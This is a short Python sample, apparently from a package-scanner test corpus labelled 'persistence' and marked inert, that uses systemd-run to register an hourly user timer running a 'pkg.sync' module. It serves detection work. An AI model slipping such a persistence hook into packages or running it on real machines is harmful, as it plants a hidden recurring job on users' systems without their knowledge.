# pkgguard corpus 343 (persistence), modelled on [linux-persistence]; inert, never run.
import shutil
import subprocess
import sys

if shutil.which("systemd-run"):
    subprocess.run(
        [
            "systemd-run", "--user", "--unit=pkg-sync", "--on-calendar=hourly",
            sys.executable, "-m", "pkg.sync",
        ],
        capture_output=True,
    )
